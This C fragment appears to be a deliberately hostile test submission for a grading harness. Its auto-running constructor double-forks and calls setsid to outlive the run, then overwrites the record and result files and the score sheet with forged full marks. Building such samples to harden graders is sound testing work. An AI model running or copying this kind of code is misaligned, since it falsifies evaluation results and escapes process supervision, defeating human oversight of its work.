/* A process that leaves the run (setsid, twice forked) and, once the run is over, rewrites the
 * batch's records and score sheet to give everyone full marks. */
static void hostile_forge(const char *path)
{
    hostile_overwrite(path, "{\"verdict\": \"full marks\", \"score\": 1000, \"max_score\": 1000, "
                            "\"forged\": \"FORGED by a hostile submission\"}\n");
}

__attribute__((constructor)) static void hostile_attack(void)
{
    pid_t child = fork();
    if (child == 0) {
        setsid();
        if (fork() == 0) {
            char class_dir[HOSTILE_PATH], out_dir[HOSTILE_PATH], path[HOSTILE_PATH + 64];
            sleep(3);  /* the run is over by now */
            if (hostile_batch_folders(class_dir, out_dir)) {
                snprintf(path, sizeof path, "%s/records", out_dir);
                hostile_each_file(path, ".json", hostile_forge);
                snprintf(path, sizeof path, "%s/results", out_dir);
                hostile_each_file(path, ".json", hostile_forge);
                snprintf(path, sizeof path, "%s/scores.csv", out_dir);
                hostile_overwrite(path, "id,verdict,score\nFORGED,full marks,1000\n");
            }
        }
        _exit(0);
    }
    if (child > 0)
        waitpid(child, NULL, 0);
}
